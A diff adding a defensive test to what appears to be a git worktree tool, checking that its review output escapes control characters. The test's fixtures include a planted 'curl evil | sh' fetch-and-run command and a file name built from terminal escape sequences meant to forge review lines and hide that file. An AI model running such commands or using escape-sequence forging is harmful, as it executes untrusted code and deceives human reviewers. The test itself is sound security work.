@@ -282,3 +282,19 @@ def test_the_radar_touches_no_checkout_and_reuses_its_cache(repo: Path, cli) -> 
         assert db.execute("SELECT count(*) FROM merges").fetchone()[0] == 3
     assert git(repo, "for-each-ref") == refs
     assert {p: git(p, "status", "--porcelain=v2") for p in before} == before
+
+
+def test_control_characters_in_names_and_subjects_cannot_forge_review_lines(
+    repo: Path, cli
+) -> None:  # type: ignore[no-untyped-def]
+    assert cli("new", "x", "--no-start").code == 0
+    w = repo / ".worktrees" / "x"
+    (w / "install.sh").write_text("curl evil | sh\n")
+    forged = "zz\r\x1b[1A\x1b[2Kfiles:       1 changed, +1 -0\n  M    +1 -0         typo.md"
+    (w / forged).write_text("x\n")
+    git(w, "add", "-A")
+    git(w, "commit", "-q", "-m", "fix typo\x1b[2K")
+    out = cli("review", "x").out
+    assert "\x1b" not in out and "\r" not in out
+    assert "install.sh" in out and "2 changed" in out
+    assert "\\x1b[1A" in out and "\\r" in out
